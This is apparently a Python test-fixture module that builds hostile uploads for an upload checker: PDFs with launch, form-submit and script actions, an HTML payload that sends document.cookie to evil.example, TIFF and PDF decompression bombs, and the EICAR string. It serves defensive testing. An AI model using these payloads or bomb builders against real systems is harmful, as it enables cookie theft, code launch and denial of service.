"""Hostile uploads of issue #11, built in code so that every byte is explained.

Three groups: PDFs with active content, polyglots (one file that is two), and decompression or
CPU bombs. The bombs are small on disk and cheap to build: they declare the work instead of
containing it (shared strips, zero-filled compressed streams).
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

from lotse.filecheck.uploads import RefusalCode
from tests.filecheck.corpus import _one_page_pdf, _stream, raw_pdf

# --- active content in PDFs ------------------------------------------------------------------


@dataclass(frozen=True)
class PdfSample:
    name: str
    build: Callable[[], bytes]
    expected: RefusalCode | None


def _action_on_open(action: bytes) -> bytes:
    return _one_page_pdf(catalog_extra=b"/OpenAction 6 0 R", more=[action])


def _link(action: bytes) -> bytes:
    return _one_page_pdf(
        page_extra=b"/Annots [6 0 R]",
        more=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A " + action + b" >>"],
    )


_XFA_TEMPLATE = (
    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f">'
    b'<event activity="initialize"><script contentType="application/x-javascript">'
    b"xfa.host.gotoURL('https://evil.example/')</script></event></subform></template>"
)


def active_pdfs() -> list[PdfSample]:
    active = RefusalCode.PDF_ACTIVE_CONTENT
    return [
        PdfSample(
            "xfa_stream_with_javascript",
            lambda: _one_page_pdf(
                catalog_extra=b"/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>",
                more=[_stream(_XFA_TEMPLATE)],
            ),
            active,
        ),
        PdfSample(
            "xfa_single_stream",
            lambda: _one_page_pdf(
                catalog_extra=b"/AcroForm 6 0 R",
                more=[b"<< /Fields [] /XFA 7 0 R >>", _stream(b"<xdp:xdp/>")],
            ),
            active,
        ),
        PdfSample(
            "submit_form_on_open",
            lambda: _action_on_open(
                b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>"
            ),
            active,
        ),
        PdfSample(
            "submit_form_in_a_link",
            lambda: _link(b"<< /S /SubmitForm /F (https://evil.example/) >>"),
            active,
        ),
        PdfSample(
            "import_data", lambda: _action_on_open(b"<< /S /ImportData /F (data.fdf) >>"), active
        ),
        PdfSample(
            "goto_remote",
            lambda: _link(b"<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
            active,
        ),
        PdfSample(
            "goto_embedded",
            lambda: _action_on_open(b"<< /S /GoToE /T << /R /C /N (x) >> >>"),
            active,
        ),
        PdfSample(
            "launch_in_page_aa",
            lambda: _one_page_pdf(page_extra=b"/AA << /O << /S /Launch /F (calc.exe) >> >>"),
            RefusalCode.PDF_LAUNCH_ACTION,
        ),
        PdfSample(
            "rich_media_annotation",
            lambda: _one_page_pdf(
                page_extra=b"/Annots [6 0 R]",
                more=[
                    b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] "
                    b"/RichMediaContent << /Assets << /Names [] >> >> >>"
                ],
            ),
            active,
        ),
        PdfSample(
            "three_d_annotation",
            lambda: _one_page_pdf(
                page_extra=b"/Annots [6 0 R]",
                more=[
                    b"<< /Type /Annot /Subtype /3D /Rect [0 0 100 100] /3DD 7 0 R >>",
                    _stream(b"U3D\x00", b"/Type /3D /Subtype /U3D"),
                ],
            ),
            active,
        ),
        PdfSample(
            "uri_on_open",
            lambda: _action_on_open(b"<< /S /URI /URI (https://tracker.example/pixel) >>"),
            active,
        ),
        PdfSample(
            "uri_in_a_chain_on_open",
            lambda: _action_on_open(
                b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://t.example/) >> >>"
            ),
            active,
        ),
        PdfSample(
            "uri_when_a_page_opens",
            lambda: _one_page_pdf(
                page_extra=b"/AA << /O << /S /URI /URI (https://t.example/) >> >>"
            ),
            active,
        ),
        PdfSample(
            "unreferenced_javascript_object",
            # Object 6 is in the cross-reference table but nothing points to it; a viewer that
            # repairs the file may still find and run it.
            lambda: _one_page_pdf(more=[b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"]),
            RefusalCode.PDF_JAVASCRIPT,
        ),
        PdfSample(
            "unreferenced_launch_object",
            lambda: _one_page_pdf(more=[b"<< /S /Launch /F (cmd.exe) >>"]),
            RefusalCode.PDF_LAUNCH_ACTION,
        ),
        PdfSample(
            "embedded_files_name_tree",
            lambda: _one_page_pdf(
                catalog_extra=b"/Names << /EmbeddedFiles 6 0 R >>",
                more=[b"<< /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >>"],
            ),
            RefusalCode.PDF_EMBEDDED_FILE,
        ),
        # A CV with a clickable e-mail or web link is an ordinary document.
        PdfSample(
            "clickable_web_link",
            lambda: _link(b"<< /S /URI /URI (https://www.example.org/) >>"),
            None,
        ),
        PdfSample(
            "internal_goto_on_open",
            lambda: _action_on_open(b"<< /S /GoTo /D [3 0 R /Fit] >>"),
            None,
        ),
    ]


# --- polyglots -----------------------------------------------------------------------------------

HTML = b"<html><body><script>fetch('https://evil.example/'+document.cookie)</script></body></html>"


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.html", HTML)
    return buffer.getvalue()


def clean_pdf() -> bytes:
    return _one_page_pdf()


def pdf_then(trailing: bytes) -> bytes:
    return clean_pdf() + trailing


def png_image() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), "white").save(buffer, "PNG")
    return buffer.getvalue()


def jpeg_image(comment: bytes | None = None) -> bytes:
    buffer = io.BytesIO()
    params: dict[str, object] = {"quality": 90}
    if comment is not None:
        params["comment"] = comment
    Image.new("RGB", (40, 30), "white").save(buffer, "JPEG", **params)
    return buffer.getvalue()


def jpeg_with_segment(marker: int, body: bytes) -> bytes:
    """A JPEG with an extra segment (e.g. COM 0xFE, APP9 0xE9) right after SOI."""
    data = jpeg_image()
    segment = struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body
    return data[:2] + segment + data[2:]


# --- bombs ---------------------------------------------------------------------------------------


def tiff_bomb(frames: int, width: int, height: int) -> bytes:
    """A multi-frame 8-bit grey TIFF whose frames all point to one Deflate strip of zeros.

    500 frames of 7000 x 7000 are about 120 KB here (the reported file was 1.8 MB): each frame
    is 49 megapixels, under the per-frame cap, and decoding them all took 15 s of CPU.
    """
    compressor = zlib.compressobj(9)
    row = bytes(width)
    strip = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    out = bytearray(b"II*\x00" + struct.pack("<I", 8 + len(strip)))
    strip_at = 8
    out += strip
    tags = 9
    ifd_size = 2 + tags * 12 + 4
    for index in range(frames):
        here = len(out)
        following = here + ifd_size if index + 1 < frames else 0
        entries = [
            (256, 4, 1, width),  # ImageWidth
            (257, 4, 1, height),  # ImageLength
            (258, 3, 1, 8),  # BitsPerSample
            (259, 3, 1, 8),  # Compression: Deflate
            (262, 3, 1, 1),  # PhotometricInterpretation: BlackIsZero
            (273, 4, 1, strip_at),  # StripOffsets
            (277, 3, 1, 1),  # SamplesPerPixel
            (278, 4, 1, height),  # RowsPerStrip
            (279, 4, 1, len(strip)),  # StripByteCounts
        ]
        out += struct.pack("<H", tags)
        for tag, kind, count, value in entries:
            if kind == 3:
                out += struct.pack("<HHIHH", tag, kind, count, value, 0)
            else:
                out += struct.pack("<HHII", tag, kind, count, value)
        out += struct.pack("<I", following)
    return bytes(out)


def tiff_pages(frames: int) -> bytes:
    images = [Image.new("L", (16, 16), 200) for _ in range(frames)]
    buffer = io.BytesIO()
    images[0].save(buffer, "TIFF", save_all=True, append_images=images[1:])
    return buffer.getvalue()


def pdf_flate_bomb(decompressed_mb: int) -> bytes:
    """One page whose content stream is ``decompressed_mb`` MB of spaces, deflated (~1000:1)."""
    compressor = zlib.compressobj(9)
    piece = b" " * (1024 * 1024)
    packed = b"".join(compressor.compress(piece) for _ in range(decompressed_mb))
    packed += compressor.flush()
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed)
            + packed
            + b"\nendstream",
        ]
    )


def pdf_huge_image() -> bytes:
    """A page showing a JPEG XObject that declares 100000 x 100000 pixels (10 gigapixels)."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /XObject << /Im1 5 0 R >> >> >>",
            _stream(b"q 595 0 0 842 0 0 cm /Im1 Do Q"),
            b"<< /Type /XObject /Subtype /Image /Width 100000 /Height 100000 "
            b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode /Length 4 >>\n"
            b"stream\n\xff\xd8\xff\xd9\nendstream",
        ]
    )


def pdf_pages(count: int) -> bytes:
    """``count`` real pages sharing one content stream and font."""
    kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(count))
    pages = [
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R "
        b"/Resources << /Font << /F1 4 0 R >> >> >>"
        for _ in range(count)
    ]
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
            _stream(b"BT /F1 12 Tf 72 720 Td (Seite) Tj ET"),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *pages,
        ]
    )


# The EICAR test string, assembled so that no file of the repository carries it whole.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def pdf_with_eicar() -> bytes:
    """A valid one-page PDF that carries the EICAR string in a stream nothing shows."""
    return _one_page_pdf(more=[_stream(EICAR)])
